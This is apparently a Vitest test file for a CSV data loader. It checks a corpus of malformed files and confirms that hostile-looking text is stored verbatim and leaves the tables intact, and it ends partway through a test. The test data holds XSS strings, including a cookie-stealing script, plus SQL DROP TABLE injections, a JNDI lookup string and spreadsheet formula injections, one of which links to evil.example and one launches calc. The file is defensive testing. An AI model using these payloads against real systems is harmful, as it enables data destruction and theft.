/**
 * The bad-input corpus (tests/fixtures/bad/, listed in its README.md): every file is loaded with
 * loadSingleFile on top of the bundled data, and its report is checked exactly — rows accepted, the
 * [line, code, column] of every rejected row, the fatal code of whole-file failures — together with
 * what the tables hold afterwards: a failed file changes nothing, a partly good one adds exactly its
 * accepted rows, and text that looks like HTML, SQL or a spreadsheet formula is stored verbatim
 * (read back with parameterised SELECTs). Then the 100 MB file (made in memory), a target of 0
 * through the judge, and folder loads that must leave the previous data untouched.
 *
 * Keys used by the corpus never exist in data/ (areas 310118-bad*, indicators bad_*, targets
 * bad-*, actuals in 2018, targets in 2030), so after a partial load the tables are exactly "before +
 * accepted rows". Actuals were dated 2030 once, only to stay clear of the bundled keys; since a
 * period after the loading month is refused (rules.ts periodRange), they use 2018, a past year the
 * bundled data does not hold (a target may still be set for a future year).
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createNodeEngine } from '../../src/data/node-engine';
import { folderFiles, text } from '../helpers/fixtures';
import { loadFolder, loadSingleFile } from '../../src/data/ingest/commit';
import type { FileReport, InputFile, IssueCode } from '../../src/data/ingest/issues';
import { MAX_TABLE_BYTES } from '../../src/data/ingest/stage';
import type { DetectedEncoding } from '../../src/data/ingest/csv-text';
import type { Row, SqlEngine, SqlValue } from '../../src/data/engine';
import type { TableName } from '../../src/data/ingest/tables';
import { readCatalog } from '../../src/data/model';
import { judgeDistricts, judgeTargets } from '../helpers/judge-steps';
import { translator } from '../../src/app/i18n/translator';

const DIR = 'tests/fixtures/bad';
const ORDER: Record<TableName, string> = {
  areas: 'area_code',
  indicators: 'indicator_id',
  targets: 'target_id',
  actuals: 'indicator_id, area_code, period',
};
const TABLES = Object.keys(ORDER) as TableName[];

const H1 = '<script>alert(1)</script>';
const H2 = '<img src=x onerror=alert(1)>';
const S1 = `'); DROP TABLE actuals; --`;
const S2 = '1 OR 1=1';
const S3 = '${}';
const S4 = `'||'`;

/** A parameterised read-back: the rows the statement must return after the load. */
type Stored = [sql: string, params: SqlValue[], rows: Row[]];
interface Case {
  file: string;
  table: TableName | null;
  accepted: number;
  rejected?: [line: number, code: IssueCode, column: string | null][];
  fatal?: IssueCode;
  encoding?: DetectedEncoding | null;
  /** Expected `detail` of rejected rows, by line (duplicate_key names the first line). */
  details?: Record<number, string>;
  stored?: Stored[];
}

const areaRow = (code: string, row: Row | null): Stored => [
  `SELECT name_zh, name_en, level, parent_code FROM areas WHERE area_code = ?`,
  [code],
  row ? [row] : [],
];
const actual = (period: string, row: Row | null, indicator = 'unemployed_reemployed', areaCode = '310118'): Stored => [
  `SELECT value, numerator, denominator, source FROM actuals WHERE indicator_id = ? AND area_code = ? AND period = ?`,
  [indicator, areaCode, period],
  row ? [row] : [],
];
const target = (id: string, row: Row | null): Stored => [
  `SELECT target_value, comparator, due_date, doc_id, clause, quote FROM targets WHERE target_id = ?`,
  [id],
  row ? [row] : [],
];
const flow = (value: number | null, source: string | null = null): Row => ({ value, numerator: null, denominator: null, source });
const rate = (numerator: number, denominator: number, source: string | null = null): Row => ({
  value: null,
  numerator,
  denominator,
  source,
});
const tgt = (target_value: number, doc_id: string, clause: string | null = null, quote: string | null = null): Row => ({
  target_value,
  comparator: '>=',
  due_date: '2030-12-31',
  doc_id,
  clause,
  quote,
});

/** The corpus manifest: one entry per file in tests/fixtures/bad/ (README.md says the same in words). */
const CORPUS: Case[] = [
  // --- structure -------------------------------------------------------------------------------
  {
    file: 'ragged-too-few.csv',
    table: 'actuals',
    accepted: 2,
    // One issue per bad line (line 4 lacks three fields: it is still one rejected row).
    rejected: [
      [3, 'csv_structure', 'source'],
      [4, 'csv_structure', 'period'],
    ],
    stored: [actual('2018-01', flow(100, 'ok')), actual('2018-02', null), actual('2018-04', flow(400, 'ok'))],
  },
  {
    file: 'ragged-too-many.csv',
    table: 'actuals',
    // Line 4 only has trailing empty fields: nothing is lost, so it is taken.
    accepted: 3,
    rejected: [[3, 'csv_structure', null]],
    stored: [actual('2018-02', null), actual('2018-03', flow(300, 'ok'))],
  },
  { file: 'semicolon.csv', table: null, accepted: 0, fatal: 'not_recognised', encoding: 'utf-8' },
  { file: 'tab-separated.csv', table: null, accepted: 0, fatal: 'not_recognised', encoding: 'utf-8' },
  {
    file: 'quoted-commas-zh.csv',
    table: 'areas',
    accepted: 2,
    rejected: [],
    stored: [
      areaRow('310118-bad1', {
        name_zh: '青浦新城,西片',
        name_en: 'Qingpu New City, west',
        level: 'zone',
        parent_code: '310118',
      }),
      areaRow('310118-bad2', {
        name_zh: '“五个新城”之一，青浦，嘉定,松江',
        name_en: 'One of the "five new cities"',
        level: 'zone',
        parent_code: '310118',
      }),
    ],
  },
  {
    file: 'quoted-commas-targets.csv',
    table: 'targets',
    accepted: 2,
    rejected: [],
    stored: [
      target(
        'bad-q1',
        tgt(10000, '沪就办〔2030〕1号,附件', '（一）', '全年帮助10,000人实现再就业，其中长期失业青年不少于1,000人。'),
      ),
      target('bad-q2', tgt(1234567, '沪就办〔2030〕2号', '（二）,（三）', '他说："不低于上年"，即1,234,567人')),
    ],
  },
  {
    file: 'stray-quote.csv',
    table: 'areas',
    // A " inside an unquoted field: DuckDB reads it as a character; the lines after it are intact rows.
    accepted: 4,
    rejected: [],
    stored: [
      areaRow('310118-bad28', { name_zh: '青浦"新城', name_en: null, level: 'zone', parent_code: '310118' }),
      areaRow('310118-bad29', { name_zh: '引号之后', name_en: null, level: 'zone', parent_code: '310118' }),
      areaRow('310118-bad32', { name_zh: '再之后', name_en: null, level: 'zone', parent_code: '310118' }),
    ],
  },
  {
    file: 'unterminated-quote.csv',
    table: 'actuals',
    // RFC 4180: the open quote runs to the end of the file, so lines 3–5 are one malformed record.
    accepted: 1,
    rejected: [[3, 'csv_structure', 'source']],
    stored: [actual('2018-01', flow(1, 'ok')), actual('2018-03', null)],
  },
  {
    file: 'cr-only-newlines.csv',
    table: 'areas',
    // A lone CR ends a line (as in Excel and text editors): an old Mac file is read as data.
    accepted: 2,
    rejected: [],
    stored: [areaRow('310118-bad24', { name_zh: '回车一', name_en: null, level: 'zone', parent_code: '310118' })],
  },

  // --- line ends: LF, CRLF and a lone CR each end a line; lines are the file's own -------------
  {
    file: 'cr-lone-unquoted.csv',
    table: 'actuals',
    // Line 3 is cut by a CR inside its period: both halves are short rows. The CR at the end of
    // line 6's source ends it (source "a"); "b" on line 7 is a short row of its own.
    accepted: 4,
    rejected: [
      [3, 'csv_structure', 'value'],
      [4, 'csv_structure', 'value'],
      [7, 'csv_structure', 'area_code'],
    ],
    details: { 3: 'MISSING COLUMNS', 7: 'MISSING COLUMNS' },
    stored: [actual('2018-02', null), actual('2018-04', flow(104, 'a')), actual('2018-05', flow(105, 'last'))],
  },
  {
    file: 'cr-lone-quoted.csv',
    table: 'actuals',
    // Inside quotes a CR or CRLF is data; it still ends a line of the file (the short row is line 7).
    accepted: 3,
    rejected: [[7, 'csv_structure', 'period']],
    stored: [actual('2018-01', flow(201, 'quoted\rcr')), actual('2018-02', flow(202, 'quoted\r\ncrlf'))],
  },
  {
    file: 'crcrlf-every-line.csv',
    table: 'actuals',
    // \r\r\n is a line end and a blank line: rows on lines 3, 5, 7, 9.
    accepted: 3,
    rejected: [[7, 'not_a_number', 'value']],
    stored: [actual('2018-01', flow(301, 'py')), actual('2018-04', flow(304, 'py')), actual('2018-03', null)],
  },
  {
    file: 'crcrlf-one-line.csv',
    table: 'actuals',
    accepted: 3,
    rejected: [[5, 'csv_structure', 'value']],
    stored: [actual('2018-05', flow(401, 'a')), actual('2018-06', flow(402, 'b')), actual('2018-08', flow(404, 'd'))],
  },
  {
    file: 'mixed-line-endings.csv',
    table: 'actuals',
    accepted: 4,
    rejected: [
      [5, 'bad_period', 'period'],
      [7, 'csv_structure', 'value'],
    ],
    stored: [actual('2018-10', flow(502, 'cr next')), actual('2018-11', flow(503, 'lf next')), actual('2018-12', flow(506, 'no line end'))],
  },
  {
    file: 'lines-after-blanks-and-quotes.csv',
    table: 'actuals',
    // Structural errors and value checks both name the file's own line, after blank lines and
    // records over two lines.
    accepted: 3,
    rejected: [
      [7, 'csv_structure', 'value'],
      [8, 'csv_structure', null],
      [9, 'not_a_number', 'value'],
    ],
    details: { 7: 'MISSING COLUMNS', 8: 'TOO MANY COLUMNS' },
    stored: [actual('2018-01', flow(1, 'two\nlines')), actual('2018-06', flow(6, 'ok'))],
  },

  // --- numbers ---------------------------------------------------------------------------------
  {
    file: 'numbers-bad.csv',
    table: 'actuals',
    accepted: 2,
    rejected: [
      [3, 'not_a_number', 'value'],
      [4, 'not_finite', 'value'],
      [5, 'not_finite', 'value'],
      [6, 'not_finite', 'value'],
      [7, 'not_finite', 'value'],
      [8, 'not_a_number', 'value'],
      [9, 'not_a_number', 'value'],
      [10, 'not_a_number', 'value'],
      [11, 'not_a_number', 'value'],
      [12, 'not_a_number', 'value'],
    ],
    stored: [actual('2018-01', flow(100, 'good')), actual('2018-12', flow(1000, 'good: exponent')), actual('2018-03', null)],
  },
  {
    file: 'numbers-bad-rate.csv',
    table: 'actuals',
    // Line 8 gives the rate itself as a value: contract v2 takes it (for its own area, never pooled).
    accepted: 2,
    rejected: [
      [3, 'not_a_number', 'numerator'],
      [4, 'not_finite', 'numerator'],
      [5, 'not_finite', 'denominator'],
      [6, 'not_finite', 'numerator'],
      [7, 'not_a_number', 'numerator'],
      [9, 'rate_needs_fraction', 'numerator'],
    ],
    stored: [
      actual('2018-01', rate(90, 100, 'good'), 'graduate_assistance_employment_rate', '310000'),
      actual('2018-07', flow(90, 'value instead of a fraction'), 'graduate_assistance_employment_rate', '310000'),
    ],
  },
  {
    file: 'targets-bad-numbers.csv',
    table: 'targets',
    accepted: 1,
    rejected: [
      [2, 'not_a_number', 'target_value'],
      [3, 'not_finite', 'target_value'],
      [4, 'not_finite', 'target_value'],
      [5, 'not_finite', 'target_value'],
      [6, 'not_a_number', 'target_value'],
    ],
    stored: [target('bad-n6', tgt(5000, 'D')), target('bad-n2', null)],
  },
  {
    file: 'negative-counts.csv',
    table: 'actuals',
    accepted: 2,
    rejected: [
      [2, 'negative', 'value'],
      [3, 'negative', 'value'],
      [4, 'negative', 'value'],
      [5, 'negative', 'value'],
      [6, 'negative', 'numerator'],
    ],
    stored: [actual('2018-02', flow(0, 'good: full-width zero')), actual('2018-01', null)],
  },
  {
    file: 'european-decimal.csv',
    table: 'actuals',
    // "12,34" is not thousands grouping and "1.234,5" is a decimal comma: reading them as 1234 and
    // 1.2345 would be silent errors of ×100 and ÷1000.
    accepted: 2,
    rejected: [
      [3, 'not_a_number', 'value'],
      [4, 'not_a_number', 'value'],
      [6, 'not_a_number', 'value'],
    ],
    stored: [
      actual('2018-01', flow(1234, 'good')),
      actual('2018-04', flow(1234, 'good: thousands')),
      actual('2018-02', null),
      actual('2018-03', null),
    ],
  },

  {
    file: 'numbers-literal-syntax.csv',
    table: 'actuals',
    // 1_000 is DuckDB's literal syntax, not a spreadsheet's: read as 1000 it would make 12_5 into 125.
    accepted: 3,
    rejected: [
      [2, 'not_a_number', 'value'],
      [3, 'not_a_number', 'value'],
      [6, 'not_a_number', 'value'],
    ],
    stored: [actual('2018-03', flow(1000, 'good: thousands')), actual('2018-06', flow(7, 'good: plus sign')), actual('2018-01', null)],
  },
  {
    file: 'percent-for-count.csv',
    table: 'actuals',
    // A percent sign is read only where the indicator's unit is percent: 550% of a count of persons
    // is not 550 persons.
    accepted: 2,
    rejected: [
      [2, 'percent_not_allowed', 'value'],
      [4, 'percent_not_allowed', 'numerator'],
      [5, 'percent_not_allowed', 'denominator'],
      [6, 'percent_not_allowed', 'value'],
    ],
    stored: [actual('2018-01', flow(4.5, 'good: a level in percent'), 'surveyed_unemployment_rate_avg', '310000'), actual('2018-01', null)],
  },
  {
    file: 'percent-for-count-targets.csv',
    table: 'targets',
    accepted: 1,
    rejected: [[2, 'percent_not_allowed', 'target_value']],
    stored: [
      [`SELECT target_value FROM targets WHERE target_id = ?`, ['bad-p2'], [{ target_value: 90 }]],
      target('bad-p1', null),
    ],
  },

  // --- periods and dates -----------------------------------------------------------------------
  {
    file: 'periods-out-of-range.csv',
    table: 'actuals',
    // From 2000-01 to the month after the loading month (README); the rest would move the as-of month.
    accepted: 2,
    rejected: [
      [3, 'period_out_of_range', 'period'],
      [4, 'period_out_of_range', 'period'],
      [5, 'period_out_of_range', 'period'],
      [7, 'period_out_of_range', 'period'],
    ],
    stored: [actual('2018-08', flow(1)), actual('2000-01', flow(1)), actual('2205-12', null)],
  },
  {
    file: 'periods-bad.csv',
    table: 'actuals',
    accepted: 1,
    rejected: [3, 4, 5, 6, 7, 8, 9, 10, 11].map((l) => [l, 'bad_period', 'period'] as [number, IssueCode, string]),
    stored: [actual('2018-01', flow(1))],
  },
  {
    file: 'targets-bad-dates.csv',
    table: 'targets',
    accepted: 1,
    rejected: [
      [3, 'bad_date', 'due_date'],
      [4, 'bad_date', 'due_date'],
      [5, 'bad_date', 'due_date'],
      [6, 'bad_date', 'due_date'],
      [7, 'bad_year', 'year'],
      [8, 'bad_year', 'year'],
      [9, 'bad_year', 'year'],
      [10, 'bad_year', 'year'],
    ],
    stored: [target('bad-d1', { ...tgt(10, 'D'), due_date: '2030-06-30' })],
  },

  // --- references and keys ---------------------------------------------------------------------
  {
    file: 'unknown-refs-actuals.csv',
    table: 'actuals',
    accepted: 1,
    rejected: [
      [3, 'unknown_indicator', 'indicator_id'],
      [4, 'unknown_area', 'area_code'],
      [5, 'unknown_area', 'area_code'],
      [6, 'unknown_indicator', 'indicator_id'],
    ],
  },
  {
    file: 'unknown-refs-targets.csv',
    table: 'targets',
    accepted: 1,
    rejected: [
      [3, 'unknown_indicator', 'indicator_id'],
      [4, 'unknown_area', 'area_code'],
      [5, 'required', 'area_code'],
    ],
  },
  {
    file: 'areas-bad.csv',
    table: 'areas',
    accepted: 1,
    rejected: [
      [3, 'unknown_parent', 'parent_code'],
      [4, 'bad_id', 'area_code'],
      [5, 'bad_level', 'level'],
      [6, 'required', 'parent_code'],
      [7, 'required', 'name_zh'],
    ],
  },
  {
    file: 'indicators-bad.csv',
    table: 'indicators',
    accepted: 1,
    rejected: [
      [3, 'bad_id', 'indicator_id'],
      [4, 'bad_kind', 'kind'],
      [5, 'bad_boolean', 'higher_is_better'],
      [6, 'required', 'unit'],
    ],
  },
  {
    file: 'duplicate-keys-actuals.csv',
    table: 'actuals',
    accepted: 2,
    rejected: [
      [4, 'duplicate_key', 'indicator_id'],
      [5, 'duplicate_key', 'indicator_id'],
    ],
    details: { 4: '2', 5: '3' },
    stored: [actual('2018-01', flow(1)), actual('2018-02', flow(2))],
  },
  {
    file: 'duplicate-keys-targets.csv',
    table: 'targets',
    accepted: 2,
    rejected: [
      [4, 'duplicate_key', 'target_id'],
      [5, 'duplicate_key', 'target_id'],
    ],
    details: { 4: '2', 5: '2' },
    stored: [target('bad-k1', tgt(10, 'D'))],
  },

  // --- rates and targets -----------------------------------------------------------------------
  {
    file: 'numerator-exceeds-denominator.csv',
    table: 'actuals',
    accepted: 1,
    rejected: [
      [3, 'numerator_exceeds_denominator', 'numerator'],
      [4, 'numerator_exceeds_denominator', 'numerator'],
    ],
    stored: [actual('2018-01', rate(100, 100), 'graduate_assistance_employment_rate', '310000')],
  },
  {
    file: 'denominator-zero.csv',
    table: 'actuals',
    accepted: 1,
    rejected: [
      [3, 'denominator_zero', 'denominator'],
      [4, 'denominator_zero', 'denominator'],
      [5, 'denominator_zero', 'denominator'],
    ],
    stored: [actual('2018-01', rate(0, 10), 'graduate_assistance_employment_rate', '310000')],
  },
  {
    file: 'target-zero.csv',
    table: 'targets',
    accepted: 6,
    rejected: [],
    stored: [
      target('bad-z1', { ...tgt(0, 'D'), due_date: '2018-12-31' }),
      [`SELECT comparator, target_value FROM targets WHERE target_id = ?`, ['bad-z6'], [{ comparator: '~', target_value: 0 }]],
    ],
  },
  {
    file: 'comparators-bad.csv',
    table: 'targets',
    accepted: 1,
    rejected: [
      [3, 'bad_comparator', 'comparator'],
      [4, 'bad_comparator', 'comparator'],
      [5, 'bad_comparator', 'comparator'],
      [6, 'bad_comparator', 'comparator'],
      [7, 'bad_comparator', 'comparator'],
      [8, 'bad_comparator', 'comparator'],
      [9, 'required', 'comparator'],
      [10, 'bad_comparator', 'comparator'],
    ],
  },

  // --- whole files -----------------------------------------------------------------------------
  { file: 'empty.csv', table: null, accepted: 0, fatal: 'file_empty', encoding: null },
  { file: 'blank-lines-only.csv', table: null, accepted: 0, fatal: 'file_empty', encoding: null },
  { file: 'header-only.csv', table: 'actuals', accepted: 0, fatal: 'header_only', encoding: 'utf-8' },
  { file: 'binary.csv', table: null, accepted: 0, fatal: 'file_binary', encoding: null },
  { file: 'xlsx-renamed.csv', table: null, accepted: 0, fatal: 'file_xlsx', encoding: null },
  { file: 'parquet-renamed.csv', table: null, accepted: 0, fatal: 'file_unreadable', encoding: null },
  { file: 'fake-arrow.csv', table: null, accepted: 0, fatal: 'file_unreadable', encoding: null },

  // --- encodings -------------------------------------------------------------------------------
  // Big5 pairs are all valid GB18030 pairs, so a decoder alone loads mojibake: the loader must ask.
  { file: 'big5.csv', table: null, accepted: 0, fatal: 'encoding_unsure', encoding: 'gb18030' },
  { file: 'random-high-bytes.csv', table: null, accepted: 0, fatal: 'encoding_unsure', encoding: 'gb18030' },
  {
    file: 'utf16be-bom.csv',
    table: 'areas',
    accepted: 2,
    rejected: [],
    encoding: 'utf-16be',
    stored: [
      areaRow('310118-bad22', { name_zh: '青浦新城', name_en: 'Qingpu New City', level: 'zone', parent_code: '310118' }),
      areaRow('310118-bad23', { name_zh: '𠀀扩展B', name_en: 'Ext B', level: 'zone', parent_code: '310118' }),
    ],
  },

  // --- HTML and script: data, stored verbatim --------------------------------------------------
  {
    file: 'html-areas.csv',
    table: 'areas',
    accepted: 2,
    // Line 5's parent is the code of line 3, which is itself rejected: the parent does not exist.
    rejected: [
      [3, 'bad_id', 'area_code'],
      [4, 'bad_level', 'level'],
      [5, 'unknown_parent', 'parent_code'],
    ],
    stored: [
      areaRow('310118-bad9', { name_zh: H1, name_en: H2, level: 'zone', parent_code: '310118' }),
      areaRow('310118-bad12', {
        name_zh: '<a href="javascript:alert(1)">x</a>',
        name_en: '</td><svg onload=alert(1)>',
        level: 'zone',
        parent_code: '310118',
      }),
      areaRow('310118-bad11', null),
    ],
  },
  {
    file: 'html-indicators.csv',
    table: 'indicators',
    accepted: 1,
    rejected: [
      [3, 'bad_id', 'indicator_id'],
      [4, 'bad_kind', 'kind'],
      [5, 'bad_boolean', 'higher_is_better'],
    ],
    stored: [
      [
        `SELECT name_zh, name_en, unit, group_zh, group_en FROM indicators WHERE indicator_id = ?`,
        ['bad_html_ind'],
        [{ name_zh: H1, name_en: H2, unit: '<b>persons</b>', group_zh: H2, group_en: H1 }],
      ],
    ],
  },
  {
    file: 'html-targets.csv',
    table: 'targets',
    accepted: 2,
    rejected: [
      [3, 'unknown_indicator', 'indicator_id'],
      [4, 'unknown_area', 'area_code'],
      [5, 'bad_year', 'year'],
      [6, 'bad_comparator', 'comparator'],
      [7, 'not_a_number', 'target_value'],
      [8, 'bad_baseline', 'baseline'],
      [9, 'bad_date', 'due_date'],
    ],
    stored: [
      target(H1, tgt(10, H2, H1, H2)),
      target(
        'bad-h9',
        tgt(10, '<a href="javascript:alert(1)">x</a>', '<!--', '</td></tr><script>alert(document.cookie)</script>'),
      ),
    ],
  },
  {
    file: 'html-actuals.csv',
    table: 'actuals',
    accepted: 2,
    rejected: [
      [4, 'unknown_indicator', 'indicator_id'],
      [5, 'unknown_area', 'area_code'],
      [6, 'bad_period', 'period'],
      [7, 'not_a_number', 'value'],
      [8, 'bad_basis', 'basis'],
      [9, 'not_a_number', 'numerator'],
      [10, 'not_a_number', 'denominator'],
    ],
    stored: [actual('2018-01', flow(1, H1)), actual('2018-02', flow(1, H2))],
  },
  {
    file: 'html-header.csv',
    table: 'areas',
    accepted: 1,
    rejected: [],
    stored: [areaRow('310118-bad13', { name_zh: '表头含脚本', name_en: null, level: 'zone', parent_code: '310118' })],
  },
  { file: 'html-header-unrecognised.csv', table: null, accepted: 0, fatal: 'not_recognised', encoding: 'utf-8' },

  // --- SQL-looking text: data, stored verbatim; tables intact ----------------------------------
  {
    file: 'sql-areas.csv',
    table: 'areas',
    accepted: 3,
    rejected: [
      [4, 'bad_id', 'area_code'],
      [5, 'bad_level', 'level'],
      [6, 'unknown_parent', 'parent_code'],
    ],
    stored: [
      areaRow('310118-bad14', { name_zh: S1, name_en: S2, level: 'zone', parent_code: '310118' }),
      areaRow('310118-bad15', { name_zh: S3, name_en: S4, level: 'zone', parent_code: '310118' }),
      areaRow('310118-bad18', { name_zh: '"; DROP TABLE areas; --', name_en: 'x', level: 'zone', parent_code: '310118' }),
    ],
  },
  {
    file: 'sql-indicators.csv',
    table: 'indicators',
    accepted: 1,
    rejected: [
      [3, 'bad_id', 'indicator_id'],
      [4, 'bad_kind', 'kind'],
      [5, 'bad_boolean', 'higher_is_better'],
    ],
    stored: [
      [
        `SELECT name_zh, name_en, unit, group_zh FROM indicators WHERE indicator_id = ?`,
        ['bad_sql_ind'],
        [{ name_zh: `'); DROP TABLE indicators; --`, name_en: S2, unit: S3, group_zh: S4 }],
      ],
    ],
  },
  {
    file: 'sql-targets.csv',
    table: 'targets',
    accepted: 2,
    rejected: [
      [3, 'unknown_indicator', 'indicator_id'],
      [4, 'unknown_area', 'area_code'],
      [5, 'bad_year', 'year'],
      [6, 'bad_comparator', 'comparator'],
      [7, 'not_a_number', 'target_value'],
      [8, 'bad_baseline', 'baseline'],
      [9, 'bad_date', 'due_date'],
    ],
    stored: [
      target(`'); DROP TABLE targets; --`, tgt(10, S2, S3, S4)),
      target('bad-s9', tgt(10, `'); DROP TABLE targets; --`, S4, '${jndi:ldap://x/a}')),
    ],
  },
  {
    file: 'sql-actuals.csv',
    table: 'actuals',
    accepted: 4,
    rejected: [
      [6, 'unknown_indicator', 'indicator_id'],
      [7, 'unknown_area', 'area_code'],
      [8, 'bad_period', 'period'],
      [9, 'not_a_number', 'value'],
      [10, 'bad_basis', 'basis'],
      [11, 'not_a_number', 'numerator'],
      [12, 'not_a_number', 'denominator'],
    ],
    stored: [
      actual('2018-01', flow(1, S1)),
      actual('2018-02', flow(1, S2)),
      actual('2018-03', flow(1, S3)),
      actual('2018-04', flow(1, S4)),
    ],
  },
  { file: 'sql-header.csv', table: 'actuals', accepted: 1, rejected: [], stored: [actual('2018-01', flow(7))] },
  {
    file: 'formula-injection.csv',
    table: 'targets',
    accepted: 1,
    rejected: [[3, 'not_a_number', 'target_value']],
    stored: [target('-2+3', tgt(10, '=HYPERLINK("http://evil.example","x")', `+cmd|' /C calc'!A0`, '@SUM(A1:A9)'))],
  },

  // --- 10,000-character strings ----------------------------------------------------------------
  {
    file: 'long-strings-areas.csv',
    table: 'areas',
    // The long name is text and is kept; a 10,000-digit area code is not a code (bad_id).
    accepted: 1,
    rejected: [[3, 'bad_id', 'area_code']],
    stored: [
      [
        `SELECT length(name_zh) AS n, name_zh = ? AS same FROM areas WHERE area_code = ?`,
        ['长'.repeat(10000), '310118-bad26'],
        [{ n: 10000, same: true }],
      ],
      [`SELECT count(*) AS n FROM areas WHERE length(area_code) > 64`, [], [{ n: 0 }]],
    ],
  },
  {
    file: 'long-strings-actuals.csv',
    table: 'actuals',
    accepted: 1,
    rejected: [
      [3, 'unknown_indicator', 'indicator_id'],
      [4, 'not_finite', 'value'],
    ],
    stored: [actual('2018-01', flow(1, 'x'.repeat(9990) + '<script>'))],
  },
];

// --- harness ---------------------------------------------------------------------------------------

let engine: SqlEngine;
type Snapshot = Record<TableName, Row[]>;

async function snapshot(): Promise<Snapshot> {
  const out = {} as Snapshot;
  for (const t of TABLES) out[t] = await engine.query(`SELECT * FROM ${t} ORDER BY ${ORDER[t]}`);
  return out;
}

const bytesOf = (file: string): InputFile => ({ name: file, bytes: new Uint8Array(readFileSync(path.join(DIR, file))) });

/** Rows as strings, for set comparisons of snapshots. */
const keyed = (rows: Row[]) => rows.map((r) => JSON.stringify(r));

let baseline: Snapshot;
beforeAll(async () => {
  engine = await createNodeEngine();
  const r = await loadFolder(engine, folderFiles('data'));
  expect(r.fatal).toBeNull();
  // A copy of the bundled data, restored before every test (cheaper than reloading the folder).
  for (const t of TABLES) await engine.exec(`CREATE TABLE keep_${t} AS SELECT * FROM ${t};`);
  baseline = await snapshot();
  expect(baseline.actuals.length).toBeGreaterThan(1000);
});

beforeEach(async () => {
  for (const t of TABLES) await engine.exec(`DELETE FROM ${t}; INSERT INTO ${t} SELECT * FROM keep_${t};`);
});

/** The report must read well in both languages: no unfilled placeholder, the detail where it is used. */
function expectMessages(r: FileReport) {
  for (const lang of ['zh', 'en'] as const) {
    const tr = translator(lang);
    for (const issue of [...r.rejected, ...(r.fatal ? [r.fatal] : [])]) {
      const msg = tr.issue(issue.code, issue.detail);
      expect(msg.length, `${r.file} ${issue.code}`).toBeGreaterThan(0);
      expect(msg).not.toMatch(/\{\w+\}/);
    }
  }
}

describe('bad-input corpus: one file at a time, on top of the bundled data', () => {
  it.each(CORPUS.map((c) => [c.file, c] as const))('%s', async (_name, c) => {
    const before = await snapshot();
    const r = await loadSingleFile(engine, bytesOf(c.file));

    expect(r.file).toBe(c.file);
    expect(r.table).toBe(c.table);
    expect(r.accepted).toBe(c.accepted);
    if (c.encoding !== undefined) expect(r.encoding).toBe(c.encoding);
    expect(r.rejected.map((x) => [x.line, x.code, x.column])).toEqual(c.rejected ?? []);
    for (const x of r.rejected) {
      expect(x.file).toBe(c.file);
      expect((x.value ?? '').length).toBeLessThanOrEqual(200);
    }
    for (const [line, detail] of Object.entries(c.details ?? {})) {
      expect(r.rejected.find((x) => x.line === Number(line))?.detail).toBe(detail);
    }
    expectMessages(r);

    const after = await snapshot();
    if (c.fatal) {
      expect(r.fatal?.code).toBe(c.fatal);
      expect(r.fatal?.line).toBeNull();
      // Nothing changed, in any table.
      expect(after).toEqual(before);
    } else {
      expect(r.fatal).toBeNull();
      // Every table but the loaded one is unchanged; the loaded one gained exactly the accepted rows
      // (the corpus only uses keys that are not in the bundled data) and lost nothing.
      for (const t of TABLES.filter((t) => t !== c.table)) expect(after[t], t).toEqual(before[t]);
      const t = c.table!;
      expect(after[t].length).toBe(before[t].length + c.accepted);
      const now = new Set(keyed(after[t]));
      expect(keyed(before[t]).filter((row) => !now.has(row))).toEqual([]);
    }
    for (const [sql, params, rows] of c.stored ?? [])
      expect(await engine.query(sql, params), `${sql} ${JSON.stringify(params).slice(0, 80)}`).toEqual(rows);
  });

  it('the uncertain-encoding path shows a preview and no rows', async () => {
    const r = await loadSingleFile(engine, bytesOf('random-high-bytes.csv'));
    expect(r.fatal?.code).toBe('encoding_unsure');
    expect(r.preview).toContain('area_code,name_zh,level,parent_code');
    expect(await snapshot()).toEqual(baseline);
  });

  it('an unrecognised header quotes itself as text, script and all', async () => {
    const r = await loadSingleFile(engine, bytesOf('html-header-unrecognised.csv'));
    expect(r.fatal?.code).toBe('not_recognised');
    expect(r.fatal?.detail).toContain(H1);
    expect(translator('en').issue('not_recognised', r.fatal!.detail)).toContain(H1);
  });

  it('every SQL-looking file leaves all four tables in place and the bundled rows intact', async () => {
    for (const f of ['sql-areas.csv', 'sql-indicators.csv', 'sql-targets.csv', 'sql-actuals.csv', 'sql-header.csv']) {
      const r = await loadSingleFile(engine, bytesOf(f));
      expect(r.fatal, f).toBeNull();
    }
    const after = await snapshot();
    for (const t of TABLES) {
      const now = new Set(keyed(after[t]));
      expect(
        keyed(baseline[t]).filter((row) => !now.has(row)),
        t,
      ).toEqual([]);
    }
    const tables = await engine.query(
      `SELECT table_name FROM duckdb_tables() WHERE NOT temporary AND table_name IN ('areas','indicators','targets','actuals') ORDER BY 1`,
    );
    expect(tables.map((x) => x.table_name)).toEqual(['actuals', 'areas', 'indicators', 'targets']);
  });
});

describe('the corpus folder', () => {
  const files = readdirSync(DIR).filter((f) => f !== 'README.md' && f !== 'make-bad.mjs');

  it('holds at least 30 files, each in the manifest and in README.md, each small', () => {
    expect(files.length).toBeGreaterThanOrEqual(30);
    expect([...files].sort()).toEqual(CORPUS.map((c) => c.file).sort());
    const readme = readFileSync(path.join(DIR, 'README.md'), 'utf8');
    for (const f of files) {
      expect(readme, f).toMatch(new RegExp(`^\\| \`${f.replace(/\./g, '\\.')}\`( †)? \\|`, 'm'));
      expect(readFileSync(path.join(DIR, f)).byteLength, f).toBeLessThan(64 * 1024);
    }
  });

  it('the generated files are what make-bad.mjs writes (deterministic, up to date)', () => {
    const out = mkdtempSync(path.join(tmpdir(), 'bad-corpus-'));
    try {
      execFileSync(process.execPath, [path.join(DIR, 'make-bad.mjs'), out]);
      const written = readdirSync(out);
      expect(written.length).toBeGreaterThanOrEqual(10);
      for (const f of written)
        expect(Buffer.compare(readFileSync(path.join(out, f)), readFileSync(path.join(DIR, f))), f).toBe(0);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });
});

// --- what the corpus folder cannot hold -----------------------------------------------------------

describe('a long field, a reader that fails, the period range', () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it('a 3 MB field is data: its row loads whole', async () => {
    const long = '长'.repeat(1_000_000); // 3 MB in UTF-8
    const r = await loadSingleFile(
      engine,
      text('long-field.csv', `indicator_id,area_code,period,value,source\nunemployed_reemployed,310118,2018-01,1,${long}\nunemployed_reemployed,310118,2018-02,2,short\n`),
    );
